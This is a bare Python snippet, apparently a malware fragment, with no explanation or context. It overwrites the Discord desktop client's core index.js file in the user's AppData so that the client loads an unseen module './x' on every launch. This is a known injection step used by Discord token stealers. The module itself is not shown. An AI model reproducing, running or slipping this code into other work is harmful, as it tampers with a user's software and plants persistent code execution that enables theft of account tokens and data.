import os

path = os.path.expanduser("~/AppData/Roaming/discord/modules/discord_desktop_core/index.js")
open(path, "w").write("require('./x')")
